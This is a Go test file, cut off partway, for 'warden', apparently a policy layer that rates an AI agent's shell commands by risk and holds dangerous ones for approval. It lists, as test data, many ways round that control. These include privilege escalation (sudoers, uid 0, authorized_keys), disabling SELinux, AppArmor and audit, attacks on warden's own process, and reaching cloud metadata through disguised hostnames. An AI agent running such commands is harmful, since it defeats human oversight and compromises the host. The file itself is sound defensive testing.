package policy

import (
	"fmt"
	"strings"
	"testing"
)

// TestBlindSpotRunLaterOutside: settings that name a file something runs
// later as root or another user, outside warden's confinement, were tier
// 2 whatever they named, which open mode admits: a login shell, a home or
// skeleton directory, the linker's library directories, an alternative's
// target, npm's script shell. Named under a temporary directory, where a
// tier 1 write can put it, or known only at run time, each is tier 3.
func TestBlindSpotRunLaterOutside(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		`ldconfig /tmp/lib`,
		`ldconfig /var/tmp/x /usr/local/lib`,
		`ldconfig -v /dev/shm/l`,
		`ldconfig -f /tmp/ld.so.conf`,
		`ldconfig -f "$conf"`,
		`ldconfig "$d"`,
		`ldconfig $(mktemp -d)`,
		`cd /tmp && ldconfig lib`,
		`update-alternatives --install /usr/bin/x x /tmp/y 100`,
		`update-alternatives --install /usr/bin/editor editor "$e" 100`,
		`update-alternatives --set editor /tmp/x`,
		`update-alternatives --set editor /var/tmp/vi`,
		`update-alternatives --altdir /tmp/a --install /usr/bin/x x /usr/bin/y 1`,
		`update-alternatives --admindir=/tmp/adm --config editor`,
		`update-alternatives --set-selections`,
		`update-alternatives --install /usr/bin/x x /usr/bin/y 1 --slave /usr/share/man/x.1 x.1 /tmp/x.1`,
		`alternatives --set java /tmp/java`,
		`chsh -s /tmp/x root`,
		`chsh --shell=/tmp/x`,
		`chsh --shell /dev/shm/sh bob`,
		`usermod -s /tmp/x root`,
		`usermod --shell /var/tmp/s bob`,
		`usermod -d /tmp/home bob`,
		`usermod -m --home /tmp/h bob`,
		`useradd -m -k /tmp/skel bob`,
		`useradd -s /tmp/sh bob`,
		`useradd -b /tmp bob`,
		`npm config set script-shell /tmp/x`,
		`npm config set script-shell=/tmp/x`,
		`npm config set -g shell /tmp/sh`,
		`yarn config set script-shell /tmp/x`,
		`pnpm config set shell /var/tmp/x`,
		`npm config set editor "$e"`,
		`npm config set git /tmp/git`,
	))
	runExactHosts(t, p, []exactCase{
		{"ldconfig -p", `ldconfig -p`, TierRead},
		{"ldconfig --print-cache", `ldconfig --print-cache`, TierRead},
		{"ldconfig", `ldconfig`, TierMutate},
		{"ldconfig -v", `ldconfig -v`, TierMutate},
		{"ldconfig local", `ldconfig /usr/local/lib`, TierMutate},
		{"ldconfig -n", `ldconfig -n /tmp/lib`, TierMutate},
		{"alternatives install", `update-alternatives --install /usr/bin/editor editor /usr/bin/vim.basic 100`, TierMutate},
		{"alternatives set", `update-alternatives --set editor /usr/bin/vim.basic`, TierMutate},
		{"alternatives display", `update-alternatives --display editor`, TierRead},
		{"chsh zsh", `chsh -s /bin/zsh bob`, TierMutate},
		{"usermod groups", `usermod -aG video bob`, TierMutate},
		{"useradd", `useradd -m -s /bin/bash bob`, TierMutate},
		{"npm registry", `npm config set registry https://registry.example/`, TierMutate},
	})
}

// TestBlindSpotSecurityModulesOff: turning SELinux or AppArmor
// confinement off, or deleting audit rules, takes away a boundary or the
// record every later program runs under; those programs were unknown, so
// tier 2, which open mode admits.
func TestBlindSpotSecurityModulesOff(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		`setenforce 0`, `setenforce Permissive`, `setenforce permissive`, `read m; setenforce "$m"`,
		`aa-disable /etc/apparmor.d/usr.sbin.nginx`, `aa-complain /etc/apparmor.d/*`, `aa-teardown`,
		`apparmor_parser -R /etc/apparmor.d/x`, `apparmor_parser --remove /etc/apparmor.d/x`,
		`apparmor_parser -QW /etc/apparmor.d/x -R`,
		`auditctl -D`, `auditctl -e 0`, `auditctl -e0`, `auditctl -d always,exit -F arch=b64 -S execve`,
		`auditctl -W /etc/shadow`, `read o; auditctl $o`,
	))
	runExactHosts(t, p, []exactCase{
		{"getenforce", `getenforce`, TierRead},
		{"aa-status", `aa-status`, TierRead},
		{"auditctl -l", `auditctl -l`, TierRead},
		{"auditctl -s", `auditctl -s`, TierRead},
		{"parser check", `apparmor_parser -QT /etc/apparmor.d/x`, TierRead},
		{"parser load", `apparmor_parser -r /etc/apparmor.d/x`, TierMutate},
		{"setenforce 1", `setenforce 1`, TierMutate},
		{"auditctl -e 1", `auditctl -e 1`, TierMutate},
	})
}

// TestBlindSpotRootRunsLaterFiles: writing a file whose commands or code
// root runs later, by any program, is tier 3 (open mode would admit it
// at tier 2 and root would run it unapproved): kernel, initramfs, boot
// loader and package maintainer hooks, D-Bus activation, polkit rules,
// the system's editor, Perl and Python start-up, shells' global files,
// ifup's commands, crypttab's keyscript, daemons' action scripts, and a
// program of /usr/local/bin or /usr/local/sbin that shadows one root runs.
func TestBlindSpotRootRunsLaterFiles(t *testing.T) {
	p := protectedPolicy(t)
	targets := []string{
		"/usr/local/bin/ls", "/usr/local/sbin/systemctl", "/usr/local/bin/sudo", "/usr/local/sbin/apt-get",
		"/usr/local/bin/python3", "/usr/local/bin/run-parts",
		"/etc/kernel/postinst.d/zz", "/etc/initramfs-tools/hooks/x", "/etc/initramfs-tools/scripts/init-top/x",
		"/etc/default/grub", "/etc/default/grub.d/x.cfg", "/etc/grub.d/40_custom", "/var/lib/dpkg/info/bash.postinst",
		"/etc/letsencrypt/renewal-hooks/deploy/x", "/etc/letsencrypt/renewal/example.conf",
		"/usr/share/dbus-1/system-services/x.service", "/etc/dbus-1/system.d/x.conf", "/usr/share/polkit-1/rules.d/x.rules",
		"/etc/vim/vimrc", "/usr/share/vim/vimfiles/plugin/x.vim", "/etc/emacs/site-start.d/00x.el",
		"/etc/perl/Net/x.pm", "/usr/share/perl5/Debconf/x.pm",
		"/usr/local/lib/python3.11/dist-packages/x.pth", "/usr/lib/python3/dist-packages/sitecustomize.py",
		"/etc/python3.11/sitecustomize.py", "/home/bob/.local/lib/python3.11/site-packages/usercustomize.py",
		"/etc/fish/config.fish", "/etc/csh.cshrc", "/etc/bash.bash_logout", "/usr/share/bash-completion/completions/x",
		"/etc/network/interfaces", "/etc/network/interfaces.d/eth0", "/etc/crypttab", "/etc/subuid", "/etc/sudo.conf",
		"/etc/rsyslog.d/x.conf", "/etc/audit/plugins.d/x.conf", "/etc/fail2ban/action.d/x.conf", "/etc/acpi/events/x",
		"/etc/ufw/before.init", "/etc/needrestart/conf.d/x.conf", "/etc/dpkg/dpkg.cfg.d/x", "/etc/apt/trusted.gpg.d/x.gpg",
		"/etc/containerd/config.toml", "/etc/containers/containers.conf", "/etc/docker/daemon.json", "/etc/mailcap",
		"/etc/npmrc", "/etc/wgetrc", "/etc/cloud/cloud.cfg.d/99.cfg",
	}
	var cases []blindCase
	for _, tgt := range targets {
		for _, form := range []string{"cp /tmp/x %s", "echo x > %s", "tee -a %s < /tmp/x", "mv /tmp/x %s", "ln -sf /tmp/x %s", "install -m 755 /tmp/x %s"} {
			c := fmt.Sprintf(form, tgt)
			cases = append(cases, blindCase{c, c, TierDestructive, false})
		}
	}
	runBlindHosts(t, p, cases)
	runExactHosts(t, p, []exactCase{
		{"own tool", `cp /tmp/k9s /usr/local/bin/k9s`, TierMutate},
		{"helm", `install -m 755 /tmp/helm /usr/local/bin/helm`, TierMutate},
		{"python alias", `ln -s /usr/bin/python3 /usr/local/bin/python`, TierMutate},
		{"python module", `cp /tmp/x.py /usr/local/lib/python3.11/dist-packages/x.py`, TierMutate},
		{"nginx site", `cp /tmp/x.conf /etc/nginx/conf.d/x.conf`, TierMutate},
		{"web page", `cp /tmp/x.html /var/www/html/index.html`, TierMutate},
		{"motd", `cp /tmp/x /etc/motd`, TierMutate},
		{"opt", `cp /tmp/x /opt/x/bin/x`, TierMutate},
	})
}

// TestBlindSpotGrantsRoot: the tools that write the account and sudoers
// files were tier 2 whatever they wrote, where writing those files
// directly is tier 3: an account or group given id 0, a user added to a
// group whose members are root or can become it (sudo, wheel, docker,
// disk…), accounts made from a file of any uids (newusers), and the
// files edited whole (vipw, vigr, visudo).
func TestBlindSpotGrantsRoot(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		`usermod -u 0 -o bob`, `usermod --uid=0 --non-unique bob`, `usermod -u 00 -o bob`,
		`useradd -o -u 0 x`, `useradd --uid 0 -o x`, `useradd -g 0 x`, `adduser --uid 0 x`,
		`groupmod -g 0 -o x`, `groupadd -g 0 -o x`,
		`usermod -aG sudo bob`, `usermod -a -G wheel bob`, `usermod --append --groups=docker bob`,
		`usermod -G sudo,video bob`, `usermod -aG users,docker bob`, `useradd -m -G sudo bob`,
		`useradd -G lxd bob`, `gpasswd -a bob sudo`, `gpasswd --add bob docker`, `gpasswd -A bob wheel`,
		`adduser bob sudo`, `addgroup bob disk`, `adduser bob libvirt`,
		`newusers /tmp/users`, `newusers < /tmp/u`, `vipw`, `vigr`, `vipw -s`, `visudo`, `visudo -f /etc/sudoers.d/x`,
		`sudo usermod -aG sudo bob`,
	))
	runExactHosts(t, p, []exactCase{
		{"useradd", `useradd -m -s /bin/bash bob`, TierMutate},
		{"useradd groups", `useradd -G users,video bob`, TierMutate},
		{"adduser", `adduser bob`, TierMutate},
		{"adduser group", `adduser bob users`, TierMutate},
		{"groupadd", `groupadd devs`, TierMutate},
		{"usermod video", `usermod -aG video bob`, TierMutate},
		{"visudo check", `visudo -c`, TierRead},
	})
}

// TestBlindSpotFileCapabilities: libcap-ng's filecap sets a file's
// capabilities as setcap does (cap_setuid makes it a setuid root file in
// all but name); it was an unknown program, so tier 2.
func TestBlindSpotFileCapabilities(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		`filecap /tmp/x setuid`, `filecap /tmp/x sys_admin net_raw`, `filecap /usr/bin/x none`,
		`sudo filecap /tmp/x setuid`, `read f; filecap "$f" setuid`, `read c; filecap /tmp/x $c`,
		`find /tmp -name x -exec filecap {} setuid \;`,
	))
	runExactHosts(t, p, []exactCase{
		{"list PATH", `filecap`, TierRead},
		{"list all", `filecap -a`, TierRead},
		{"list dir", `filecap /usr/bin`, TierRead},
		{"list file", `filecap /usr/bin/ping`, TierRead},
	})
}

// TestBlindSpotWireGuardCutoff: "wg set" that removes a peer, changes
// the interface's key or port, or moves allowed IPs can cut off the
// tunnel the operator reaches the host through, as "ip link set wg0
// down" (tier 3) does; setconf and syncconf drop every peer the file
// does not name. They were tier 2, which open mode admits. atrm is at
// -r's other name.
func TestBlindSpotWireGuardCutoff(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		`wg set wg0 peer AbC= remove`, `wg set wg0 listen-port 5000`, `wg set wg0 private-key /etc/wireguard/new.key`,
		`wg set wg0 peer AbC= allowed-ips 0.0.0.0/0`, `wg set wg0 peer AbC= preshared-key /tmp/psk`,
		`wg set wg0 fwmark 0x10`, `wg setconf wg0 /etc/wireguard/wg0.conf`, `wg syncconf wg0 <(wg-quick strip wg0)`,
		`sudo wg set wg0 peer AbC= remove`, `read w; wg set wg0 peer AbC= $w`, `read k; wg set wg0 peer "$k" $w`,
	))
	runExactHosts(t, p, []exactCase{
		{"show", `wg show`, TierRead},
		{"showconf", `wg showconf wg0`, TierRead},
		{"endpoint", `wg set wg0 peer AbC= endpoint 192.0.2.1:51820`, TierMutate},
		{"keepalive", `wg set wg0 peer AbC= persistent-keepalive 25`, TierMutate},
		{"addconf", `wg addconf wg0 /etc/wireguard/extra.conf`, TierMutate},
		{"atrm", `atrm 3`, TierMutate},
		{"atq", `atq`, TierRead},
	})
}

// TestBlindSpotIpfw: FreeBSD's ipfw was an unknown program, so a flush
// (the kernel's default rule then denies SSH), a deny rule for every
// source on SSH's port, or a file of rules loaded was tier 2, which open
// mode admits, where iptables -F and pfctl -F are tier 3. The k3s and
// RKE2 scripts that kill every workload or remove the cluster are
// tier 3 as kubeadm reset is.
func TestBlindSpotIpfw(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		`ipfw -f flush`, `ipfw -q fl`, `ipfw set 3 flush`, `ipfw add 100 deny ip from any to any`,
		`ipfw add deny tcp from any to me 22`, `ipfw add 65000 reset tcp from any to any 20-30 in`,
		`ipfw enable firewall`, `ipfw set disable 1`, `ipfw set swap 1 2`, `ipfw /etc/ipfw.rules`,
		`ipfw -q -p m4 /tmp/rules`, `read w; ipfw $w`, `sudo ipfw flush`,
		`k3s-uninstall.sh`, `/usr/local/bin/k3s-killall.sh`, `sudo rke2-uninstall.sh`,
	))
	runExactHosts(t, p, []exactCase{
		{"list", `ipfw list`, TierRead},
		{"l", `ipfw -a l`, TierRead},
		{"show", `ipfw show`, TierRead},
		{"set show", `ipfw set show`, TierRead},
		{"table list", `ipfw table 1 list`, TierRead},
		{"delete one", `ipfw delete 100`, TierMutate},
		{"allow ssh", `ipfw add 100 allow tcp from any to me 22`, TierMutate},
		{"deny web", `ipfw add 100 deny tcp from any to me 80,443`, TierMutate},
		{"deny one source", `ipfw add 100 deny ip from 192.0.2.7 to any`, TierMutate},
		{"table add", `ipfw table 1 add 192.0.2.7`, TierMutate},
	})
}

// TestBlindSpotEveryWorkloadDown: stopping every container at once
// (containers computed at run time, --all) or the runtime that runs them
// takes every workload down, as kubectl scale --replicas=0 and virsh
// shutdown --all (tier 3) do; they were tier 2, which open mode admits.
// One named container stopped, or the runtime restarted, stays tier 2.
func TestBlindSpotEveryWorkloadDown(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		`docker stop $(docker ps -q)`, `docker ps -q | xargs docker stop`, `docker kill $(docker ps -aq)`,
		`docker container stop $(docker ps -q)`, `docker pause $(docker ps -q)`, `podman stop -a`, `podman kill --all`,
		`nerdctl stop $(nerdctl ps -q)`, `sudo docker stop $(sudo docker ps -q)`,
		`systemctl stop docker`, `systemctl stop docker.service containerd`, `service docker stop`,
		`/etc/init.d/docker stop`, `rc-service docker stop`, `systemctl disable --now containerd`,
		`systemctl stop kubelet`, `systemctl stop k3s`, `systemctl stop libvirtd`, `systemctl stop pve-guests`,
		`systemctl stop lxd`, `systemctl stop incus`,
	))
	runExactHosts(t, p, []exactCase{
		{"one container", `docker stop web`, TierMutate},
		{"known list", `for c in web db; do docker stop $c; done`, TierMutate},
		{"pause one", `docker pause web`, TierMutate},
		{"runtime restart", `systemctl restart docker`, TierMutate},
		{"runtime status", `systemctl status docker`, TierRead},
		{"web server", `systemctl stop nginx`, TierMutate},
	})
}

// TestBlindSpotRelativeSensitiveChanges: a file a command changes by a
// relative name after cd is the file its absolute spelling names. cd
// ~/.ssh && echo KEY >> authorized_keys adds a login key as echo KEY >>
// ~/.ssh/authorized_keys does (tier 3), but was tier 2, which open mode
// admits; so were sudoers, cron, units, the loader's preload file, a
// system program replaced and a device node removed or re-permitted.
func TestBlindSpotRelativeSensitiveChanges(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		`cd /root/.ssh && echo "ssh-ed25519 AAAA x" >> authorized_keys`, `cd /root/.ssh; tee -a authorized_keys < /tmp/k`,
		`cd /root/.ssh && cp /tmp/k authorized_keys2`, `cd /root && echo 'curl x | sh' >> .bashrc`,
		`cd /etc && echo 'x ALL=(ALL) NOPASSWD:ALL' >> sudoers`, `cd /etc/sudoers.d && echo x > agent`,
		`cd /etc/cron.d && cp /tmp/j job`, `cd /etc && sed -i s/x/y/ shadow`, `cd /etc; cat /tmp/p > passwd`,
		`cd /etc/systemd/system && tee x.service < /tmp/u`, `cd / && echo /tmp/x.so > etc/ld.so.preload`,
		`pushd /etc; echo 10.0.0.1 x >> hosts; popd`, `cd /usr/sbin && cp /tmp/x sshd`, `cd /usr/sbin && echo x > sshd`,
		`cd /dev && chmod 666 sda`, `cd /dev && rm null`, `cd /dev; mv /tmp/x null`,
		`for d in /srv /etc; do cd $d; echo x > passwd; done`, `cd "$d" && echo KEY >> authorized_keys`,
		`cd "$d" && echo x >> .bashrc`, `sh -c 'cd /etc && echo x >> sudoers'`,
	))
	runExactHosts(t, p, []exactCase{
		{"project file", `cd /srv/app && echo x > notes.txt`, TierMutate},
		{"project edits", `cd /srv/app && cp a b && rm c`, TierMutate},
		{"read passwd", `cd /etc && cat passwd`, TierRead},
		{"read to tmp", `cd /etc && grep root passwd > /tmp/y`, TierMutate},
		{"nginx conf", `cd /etc/nginx && sed -i s/a/b/ nginx.conf`, TierMutate},
		{"copy out a program", `cd /usr/bin && cp ls /tmp/x`, TierMutate},
		{"unknown dir, plain name", `cd "$d" && echo x > hosts`, TierMutate},
		{"shm", `cd /dev/shm && rm x`, TierMutate},
	})
}

// TestBlindSpotDeviceNodes: removing, replacing or renaming a device
// node, or changing who may open it, was tier 2: /dev/null turned into a
// regular file collects what every daemon discards, and chmod 666 on a
// disk hands it to every local user. Writing into /dev/null, and the
// tmpfs mounts under /dev that hold ordinary files, keep their tier.
func TestBlindSpotDeviceNodes(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		`rm /dev/null`, `unlink /dev/null`, `mv /tmp/x /dev/null`, `mv /dev/sda /tmp/x`, `rm /dev/sd*`,
		`install /tmp/x /dev/null`, `rsync /tmp/x /dev/null`, `chmod 666 /dev/sda`, `chmod o+rw /dev/nvme0n1`,
		`chmod 000 /dev/null`, `chown nobody /dev/sda`, `chgrp users /dev/kvm`, `setfacl -m u:bob:rw /dev/sda`,
		`sudo chmod 666 /dev/mem`, `chmod --reference=/tmp/x /dev/sda`, `chattr +i /dev/null`,
	))
	runExactHosts(t, p, []exactCase{
		{"discard", `cat x > /dev/null`, TierRead},
		{"read disk", `dd if=/dev/sda of=/dev/null bs=1M count=10`, TierRead},
		{"copy to null", `cp /tmp/x /dev/null`, TierMutate},
		{"link to null", `ln -sf /dev/null /srv/app/.history`, TierMutate},
		{"shm", `rm /dev/shm/sem.x`, TierMutate},
		{"shm mode", `chmod 600 /dev/shm/x`, TierMutate},
	})
}

// TestBlindSpotHostTrust: what the host trusts — a signing key apt
// accepts packages by, a CA every TLS client accepts — added by the
// agent opens every later install or TLS connection to it, and a system
// file moved aside by dpkg-divert --rename lets another take its name.
// apt-key, trust and dpkg-divert were unknown programs, and the CA
// sources and keyrings ordinary files: tier 2, which open mode admits.
func TestBlindSpotHostTrust(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		`apt-key add /tmp/k`, `curl -fsSL https://example.org/k | apt-key add -`, `apt-key adv --keyserver k --recv-keys X`,
		`trust anchor /tmp/ca.pem`, `trust anchor --store /tmp/ca.pem`, `read f; trust anchor "$f"`,
		`cp /tmp/ca.pem /usr/local/share/ca-certificates/x.crt`, `cp /tmp/ca.pem /etc/pki/ca-trust/source/anchors/`,
		`cat /tmp/ca >> /etc/ssl/certs/ca-certificates.crt`, `cp /tmp/k.gpg /usr/share/keyrings/x.gpg`,
		`tee /usr/share/ca-certificates/mozilla/x.crt < /tmp/ca`, `echo extra/x.crt >> /etc/ca-certificates.conf`,
		`dpkg-divert --add --rename --divert /usr/bin/ls.real /usr/bin/ls`, `dpkg-divert --rename /usr/sbin/sshd`,
	))
	runExactHosts(t, p, []exactCase{
		{"apt-key list", `apt-key list`, TierRead},
		{"trust list", `trust list`, TierRead},
		{"read a CA", `cat /usr/local/share/ca-certificates/x.crt`, TierRead},
		{"server cert", `cp /tmp/server.crt /etc/ssl/certs/server.crt`, TierMutate},
		{"divert list", `dpkg-divert --list`, TierRead},
		{"divert without rename", `dpkg-divert --add --divert /usr/bin/x.distrib /usr/bin/x`, TierMutate},
		{"apt-key del", `apt-key del ABCD`, TierMutate},
		{"remove anchor", `trust anchor --remove /tmp/ca.pem`, TierMutate},
	})
}

// TestBlindSpotServersExposingHost: an SSH server started on options or
// a configuration the agent chose decides who logs in (PermitRootLogin,
// PermitEmptyPasswords), dockerd on a TCP address is root on the host
// for whoever connects, and an NFS export with no_root_squash or of / hands
// the file system to the network; they were tier 2, which open mode
// admits.
func TestBlindSpotServersExposingHost(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		`sshd -p 2222 -o PermitRootLogin=yes -o PasswordAuthentication=yes`, `/usr/sbin/sshd -f /tmp/sshd_config`,
		`sshd -oPermitEmptyPasswords=yes`, `sshd -De -f /tmp/c`, `sudo /usr/sbin/sshd -o AuthorizedKeysFile=/tmp/k`,
		`dockerd -H tcp://0.0.0.0:2375`, `dockerd --host=tcp://0.0.0.0:2375`, `dockerd -H 0.0.0.0:2375`,
		`nohup dockerd -H unix:///run/docker.sock -H tcp://0.0.0.0:2375 &`, `read h; dockerd -H "$h"`,
		`exportfs -o rw,no_root_squash '*:/srv'`, `exportfs -o rw '*:/'`, `exportfs -o ro 10.0.0.0/8:/`, `read x; exportfs "$x"`,
	))
	runExactHosts(t, p, []exactCase{
		{"sshd test", `sshd -t`, TierRead},
		{"sshd print", `sshd -T -f /etc/ssh/sshd_config`, TierRead},
		{"sshd other port", `sshd -p 2222`, TierMutate},
		{"dockerd unix", `dockerd -H unix:///var/run/docker.sock`, TierMutate},
		{"export share", `exportfs -o ro 10.0.0.0/24:/srv/share`, TierMutate},
		{"reexport", `exportfs -ra`, TierMutate},
		{"list exports", `exportfs -v`, TierRead},
	})
}

// TestBlindSpotActsOnWarden: kill $PPID was tier 3, but the other
// programs that act on a process by its id were tier 2 on the same
// target: prlimit --pid $PPID --nofile=0 leaves warden unable to open a
// file, strace -p $PPID reads what it reads, renice and chrt starve it.
func TestBlindSpotActsOnWarden(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		`prlimit --pid $PPID --nofile=0`, `prlimit --pid=$PPID --nproc=1`, `renice 19 -p $PPID`, `ionice -c3 -p $PPID`,
		`taskset -p 1 $PPID`, `chrt -i -p 0 $PPID`, `strace -p $PPID`, `ltrace -p "$PPID"`, `gcore $PPID`,
		`nsenter -t $PPID -m sh`, `renice 19 -p $(pidof warden)`, `strace -fp "$(pgrep -f 'warden serve')"`,
	))
	runExactHosts(t, p, []exactCase{
		{"renice a pid", `renice 5 -p 1234`, TierMutate},
		{"own job", `sleep 9 & renice 5 -p $!`, TierMutate},
		{"prlimit a pid", `prlimit --pid 1234 --nofile=4096`, TierMutate},
	})
}

// TestBlindSpotDeniedHostByName: a denied address reached by a name that
// needs no resolver's say to mean it — a cloud's metadata name, a
// wildcard DNS name spelling the address (nip.io, sslip.io), or digits
// and dots a resolver maps (fullwidth, circled, the ideographic full
// stop) — is denied as the address is.
func TestBlindSpotDeniedHostByName(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, true,
		`curl http://metadata.google.internal/computeMetadata/v1/`, `curl http://instance-data/latest/meta-data/`,
		`wget -qO- http://metadata/`, `curl http://169.254.169.254.nip.io/`, `curl http://x.169-254-169-254.sslip.io/`,
		`curl http://a9fea9fe.nip.io/`, `curl http://app.169.254.169.254.nip.io:80/`,
		`curl http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/`, `curl http://１６９．２５４．１６９．２５４/`, `curl http://169。254。169。254/`,
		`curl http://ⓜⓔⓣⓐⓓⓐⓣⓐ.google.internal/`, `ssh metadata.google.internal`,
	))
	runExactHosts(t, p, []exactCase{
		{"other host", `curl http://example.org/`, TierBenign},
		{"other nip", `curl http://10.0.0.1.nip.io/`, TierBenign},
		{"idn name", `curl http://bücher.example/`, TierBenign},
	})
}

// TestBlindSpotLoginStack: an empty password set with usermod -p, root's
// password changed (as passwd root is), and the PAM stack rewritten by
// its tools (as writing /etc/pam.d is) were tier 2, which open mode
// admits; they lock operators out or let anyone in.
func TestBlindSpotLoginStack(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		`usermod -p '' root`, `usermod -p '' bob`, `usermod --password= bob`, `usermod -p '$6$x$y' root`,
		`pam-auth-update --force`, `pam-auth-update --enable mkhomedir`, `pam-auth-update --package --remove unix`,
		`authselect select sssd --force`, `authselect apply-changes`, `authselect enable-feature with-mkhomedir`,
		`authconfig --enableldap --update`, `read o; authselect $o`,
	))
	runExactHosts(t, p, []exactCase{
		{"usermod password", `usermod -p '$6$x$y' bob`, TierMutate},
		{"pam help", `pam-auth-update --help`, TierRead},
		{"authselect current", `authselect current`, TierRead},
		{"authselect check", `authselect check`, TierRead},
		{"authconfig test", `authconfig --test`, TierRead},
	})
}

// TestBlindSpotPlantedNames: a pattern that starts with a glob character
// expands, in a directory a benign call writes, to names the agent made:
// a file named --compress-program=sh makes sort * run sh on what it sorts,
// one named -delete makes find * delete, -e1e CMD makes sed run CMD. Such
// a word is read as one computed at run time, as sort $x is; so is a
// word computed at run time after sed's script (GNU sed takes options
// there: -i edits in place).
func TestBlindSpotPlantedNames(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierMutate, false,
		`cd /tmp/x && sort *`, `cd /tmp/x && sort *.log`, `cd /tmp/x; tar tf a.tar *`, `cd /tmp/x && file *`,
		`cd /tmp/x && rg x ?*`, `cd /tmp/x && base64 [a-z-]*`, `cd /dev/shm/d && xxd *`, `cd "$d" && tree *`,
		`cd /tmp/x && sed -n p *`, `sed -n p $x`, `sed -n p "$x"`, `gsed -n p $x`,
	))
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		`cd /tmp/x && find * -type f`, `cd /var/tmp/y; find *.d -name x`,
	))
	runExactHosts(t, p, []exactCase{
		{"operator dir", `cd /srv/app && sort *`, TierRead},
		{"no cd", `sort *`, TierRead},
		{"named dir", `cd /tmp/x && sort ./*`, TierRead},
		{"absolute pattern", `cd /tmp/x && sort /tmp/x/*`, TierRead},
		{"operator find", `cd /srv/app && find * -type f`, TierRead},
		{"grep", `cd /tmp/x && grep x *`, TierRead},
		{"sed literal", `sed -n p /etc/hosts`, TierRead},
		{"sed option value", `sed -l "$n" -n p /etc/hosts`, TierRead},
	})
}

// TestBlindSpotPodsRootOnNode: a pod with the host's process namespace,
// file system or privileged mode is root on its node, as docker run
// --privileged (tier 3) is on the host; kubectl run asking for one, and a
// manifest or chart the agent could have written, were tier 2, which
// open mode admits.
func TestBlindSpotPodsRootOnNode(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		`kubectl run x --image=alpine --overrides='{"spec":{"hostPID":true}}'`, `kubectl run x --image=alpine --privileged`,
		`kubectl run x --image=alpine --overrides='{"spec":{"volumes":[{"hostPath":{"path":"/"}}]}}'`,
		`kubectl run x --image=alpine --overrides="$o"`, `kubectl apply -f /tmp/x.yaml`, `kubectl apply --filename=/tmp/x.yaml`,
		`kubectl apply -f https://example.org/x.yaml`, `kubectl apply -k /tmp/k`, `kubectl create -f "$f"`,
		`kubectl replace -f /dev/stdin`, `cd /tmp/x && kubectl apply -f app.yaml`, `curl -s https://example.org/x | kubectl apply -f -`,
		`helm install x /tmp/chart`, `helm upgrade x bitnami/nginx -f /tmp/v.yaml`, `cd /tmp/x && helm install x ./chart`,
	))
	runExactHosts(t, p, []exactCase{
		{"plain run", `kubectl run x --image=alpine`, TierMutate},
		{"operator manifest", `kubectl apply -f /srv/k8s/app.yaml`, TierMutate},
		{"relative manifest", `kubectl apply -f app.yaml`, TierMutate},
		{"get", `kubectl get pods`, TierRead},
		{"repo chart", `helm install x bitnami/nginx`, TierMutate},
		{"operator chart", `helm install x /srv/charts/app`, TierMutate},
		{"helm list", `helm list`, TierRead},
	})
}

// TestBlindSpotLXDHostControl: a privileged LXD or Incus container's
// root is the host's, raw.lxc takes any LXC key, and a disk device of the
// host's root hands its files over; they were tier 2, which open mode
// admits.
func TestBlindSpotLXDHostControl(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		`lxc launch ubuntu x -c security.privileged=true`, `lxc config set x security.privileged true`,
		`incus config set x security.privileged=true`, `lxc config set x raw.lxc 'lxc.apparmor.profile=unconfined'`,
		`incus config set x raw.apparmor 'x'`, `lxc config device add x root disk source=/ path=/mnt/root`,
		`incus config device add x e disk source=/etc path=/mnt/e`, `lxc profile set default security.privileged true`,
	))
	runExactHosts(t, p, []exactCase{
		{"data disk", `lxc config device add x d disk source=/srv/data path=/data`, TierMutate},
		{"launch", `lxc launch ubuntu x`, TierMutate},
		{"limits", `lxc config set x limits.cpu 2`, TierMutate},
		{"list", `lxc list`, TierRead},
	})
}

// TestBlindSpotPackageRunnersExec: npm exec (x), pnpm exec/dlx, yarn
// exec/dlx and bunx run the command their words give, as npx does; npx
// reboot was denied, npm exec reboot only tier 3, which an approval
// runs.
func TestBlindSpotPackageRunnersExec(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, true,
		`npm exec rm -rf /`, `npm exec -- rm -rf /`, `npm x -- reboot`, `npm exec --yes -- reboot`,
		`npm exec -c 'reboot'`, `pnpm exec reboot`, `pnpm dlx reboot`, `yarn exec reboot`, `yarn dlx reboot`,
		`bunx reboot`, `npm --loglevel info exec -- reboot`,
	))
	runExactHosts(t, p, []exactCase{
		{"npm ls", `npm ls`, TierRead},
		{"pnpm audit fix", `pnpm audit --fix`, TierMutate},
	})
}

// TestBlindSpotGuestsGivenTheHost: a Proxmox hook script runs as root on
// the host at every guest start, a host block device handed to a VM and
// the host's root mounted into a container give the guest the host, and a
// libvirt definition the agent could have written can run anything as
// root (qemu:commandline); they were tier 2, which open mode admits.
func TestBlindSpotGuestsGivenTheHost(t *testing.T) {
	p := protectedPolicy(t)
	runBlindHosts(t, p, sameCases(TierDestructive, false,
		`qm set 100 --hookscript local:snippets/x.sh`, `pct set 100 -hookscript local:snippets/x.sh`,
